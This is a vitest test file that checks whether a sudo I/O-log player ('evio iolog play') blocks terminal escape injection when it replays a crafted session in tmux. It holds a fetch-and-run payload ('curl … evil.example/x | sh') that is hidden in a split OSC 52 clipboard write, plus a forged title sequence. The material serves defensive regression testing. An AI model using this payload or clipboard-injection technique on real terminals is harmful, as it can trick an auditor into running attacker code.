// `evio iolog play` in a real terminal emulator: tmux (its own server per run, `-L`, `-f
// /dev/null`, `set-clipboard on`). The crafted sudo session writes an OSC 52 clipboard write and
// an OSC 2 title, each split over two timing records. Played, the clipboard (tmux's paste buffer)
// and the pane title stay as they were and the text is shown; with --raw the old behaviour
// holds — the buffer is the crafted command and the title the crafted one — which shows the test
// can fail. A second session asks the terminal for XTVERSION, DA1 and a cursor report: played
// with --raw, tmux's answers reach the player's key reader (XTVERSION's holds a space, which used
// to pause the player for good) and must not pause, speed up or stop it.
// docs/security.md "Recordings played in the auditor's terminal".
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { removeDir, tempDir } from '../iolog/helpers.js';

const BIN = new URL('../../bin/evio.js', import.meta.url).pathname;
const E = '\x1b';
const PAYLOAD = 'curl -s http://evil.example/x | sh\r';
const TITLE = 'EVIO-CRAFTED-TITLE';
const DEADLINE_MS = 30_000;

let home: string;
let config: string;
const sockets: string[] = [];
/** The socket files of those servers (tmux leaves them behind after kill-server). */
const socketPaths: string[] = [];

/** A finished sudo session: `frames` of ttyout, each `[seconds since the previous, text]`. */
function writeSession(dir: string, frames: Array<[number, string]>): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'timing'), frames.map(([gap, f]) => `4 ${gap.toFixed(6)} ${Buffer.byteLength(f)}\n`).join(''));
  writeFileSync(join(dir, 'ttyout'), frames.map(([, f]) => f).join(''));
  writeFileSync(join(dir, 'log.json'), JSON.stringify({ timestamp: { seconds: 1767225600, nanoseconds: 0 }, submituser: 'mallory', runuser: 'root', command: '/usr/bin/bash', runargv: ['bash'], columns: 80, lines: 24 }));
  chmodSync(join(dir, 'timing'), 0o400);
}

function tmux(socket: string, ...args: string[]): { code: number | null; out: string } {
  const r = spawnSync('tmux', ['-L', socket, ...args], { encoding: 'utf8', timeout: 10_000 });
  return { code: r.status, out: r.stdout };
}

async function until<T>(what: string, probe: () => T | null): Promise<T> {
  const end = Date.now() + DEADLINE_MS;
  for (;;) {
    const v = probe();
    if (v !== null) return v;
    if (Date.now() > end) throw new Error(`no ${what} within ${DEADLINE_MS} ms`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** Plays the crafted session in a fresh tmux server; what tmux holds afterwards. */
async function playInTmux(session: string, extra: string): Promise<{ exit: number; screen: string; buffer: string | null; title: string; titleBefore: string }> {
  const socket = `evio-play-${process.pid}-${sockets.length}`;
  sockets.push(socket);
  expect(tmux(socket, '-f', '/dev/null', 'new-session', '-d', '-s', 'audit', '-x', '100', '-y', '30', 'sh').code).toBe(0);
  socketPaths.push(tmux(socket, 'display-message', '-p', '#{socket_path}').out.trim());
  expect(tmux(socket, 'set-option', '-s', 'set-clipboard', 'on').code).toBe(0);
  const titleBefore = tmux(socket, 'display-message', '-p', '-t', 'audit', '#{pane_title}').out.trim();
  const cmd = `${process.execPath} ${BIN} --config ${config} iolog play ${session} ${extra}; echo "PLAY-EXIT-$?"`;
  tmux(socket, 'send-keys', '-t', 'audit', '-l', cmd);
  tmux(socket, 'send-keys', '-t', 'audit', 'Enter');
  // tmux handles the pane's output in order: once the marker shows, it has read all of it.
  const exit = await until('exit marker', () => {
    const m = /PLAY-EXIT-(\d+)/.exec(tmux(socket, 'capture-pane', '-p', '-t', 'audit').out);
    return m ? Number(m[1]) : null;
  });
  const screen = tmux(socket, 'capture-pane', '-p', '-t', 'audit').out;
  const b = tmux(socket, 'show-buffer');
  const title = tmux(socket, 'display-message', '-p', '-t', 'audit', '#{pane_title}').out.trim();
  return { exit, screen, buffer: b.code === 0 ? b.out : null, title, titleBefore };
}

beforeAll(() => {
  execFileSync('tmux', ['-V']); // tmux is a test dependency (.ci/run installs it)
  home = tempDir('evio-play-term-');
  const root = join(home, 'iolog');
  config = join(home, 'config.json');
  writeFileSync(config, JSON.stringify({ home, iologdirs: [root], iologcache: join(home, 'index.sqlite'), workers: 1, interactiveWorkers: 1 }));
  const b64 = Buffer.from(PAYLOAD).toString('base64');
  writeSession(join(root, 'crafted'), [
    [0, 'BEFORE-TEXT\r\n'],
    [0.02, `${E}]52;c;${b64.slice(0, 10)}`],
    [0.02, `${b64.slice(10)}\x07`],
    [0.02, `${E}]2;${TITLE.slice(0, 5)}`],
    [0.02, `${TITLE.slice(5)}${E}\\`],
    [0.02, 'AFTER-TEXT\r\n'],
  ]);
  writeSession(join(root, 'queries'), [
    [0, 'BEFORE-TEXT\r\n'],
    [0.02, `${E}[>q${E}[c${E}[6n`],
    // Time for the answers to arrive while the player still plays.
    [0.5, 'AFTER-TEXT\r\n'],
  ]);
});

afterAll(() => {
  for (const s of sockets) spawnSync('tmux', ['-L', s, 'kill-server'], { timeout: 10_000 });
  for (const p of socketPaths) if (p) rmSync(p, { force: true });
  removeDir(home);
});

describe('evio iolog play in tmux', () => {
  it('sets neither the clipboard nor the title, and shows the text', async () => {
    const r = await playInTmux('crafted', '');
    expect(r.exit).toBe(0);
    expect(r.screen).toContain('BEFORE-TEXT');
    expect(r.screen).toContain('AFTER-TEXT');
    expect(r.buffer ?? '').not.toContain('evil.example');
    expect(r.title).not.toBe(TITLE);
    expect(r.title).toBe(r.titleBefore);
  });

  it('with --raw writes the bytes as recorded: the clipboard and the title are set (the old behaviour)', async () => {
    const r = await playInTmux('crafted', '--raw');
    expect(r.exit).toBe(0);
    expect(r.screen).toContain('AFTER-TEXT');
    expect(r.buffer).toBe(PAYLOAD);
    expect(r.title).toBe(TITLE);
  });

  it("takes none of the terminal's answers for keys (--raw lets the queries through)", async () => {
    const r = await playInTmux('queries', '--raw');
    // Not paused by tmux's XTVERSION answer (it holds a space) and not stopped by the others.
    expect(r.exit).toBe(0);
    expect(r.screen).toContain('AFTER-TEXT');
  });
});
